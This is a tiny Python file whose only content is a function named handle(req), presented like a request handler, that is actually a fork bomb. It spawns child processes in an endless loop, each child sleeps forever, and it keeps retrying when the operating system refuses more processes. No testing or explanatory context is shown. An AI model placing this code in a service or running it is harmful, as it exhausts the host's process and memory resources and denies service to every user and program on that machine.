import os, time

def handle(req):
    n = 0
    while True:
        try:
            if os.fork() == 0:
                while True:
                    time.sleep(1)
            n += 1
        except OSError:
            time.sleep(0.01)
